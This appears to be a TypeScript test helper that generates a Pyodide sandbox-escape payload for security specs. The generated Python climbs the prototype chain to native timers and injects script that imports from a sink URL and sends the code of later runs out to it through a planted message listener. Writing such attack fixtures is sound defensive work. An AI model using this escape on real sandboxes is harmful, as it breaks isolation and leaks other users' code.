// Attacks more than one security spec sends: the code an attacker would get a sandbox to run.

/** Python that, from a timer callback, climbs the receiver's prototype chain to every native timer
 * it can find and hands each a string of script: a dynamic import to the sink, and a message
 * listener that sends the sink the code of every later run. */
export function timerReceiverEscape(sinkUrl: string): string {
  const planted = `self.addEventListener('message', (e) => import('${sinkUrl}/later-run?' + encodeURIComponent(JSON.stringify(e.data))))`;
  const script = `import('${sinkUrl}/escaped'); ${planted}`;
  return [
    'import pyodide.webloop',
    'from pyodide.ffi import create_proxy, to_js',
    'Object = to_js({}).constructor',
    `SCRIPT = ${JSON.stringify(script)}`,
    'def climb(this, *args):',
    '    owner = this',
    '    for _ in range(10):',
    '        for name in ("setTimeout", "setInterval"):',
    '            try:',
    '                found = Object.getOwnPropertyDescriptor(owner, name)',
    '                found.value.call(this, SCRIPT, 0)',
    '            except Exception:',
    '                pass',
    '        try:',
    '            owner = Object.getPrototypeOf(owner)',
    '        except Exception:',
    '            return',
    'pyodide.webloop.scheduleCallback(create_proxy(climb, capture_this=True), 5)',
    'print("scheduled")',
  ].join('\n');
}
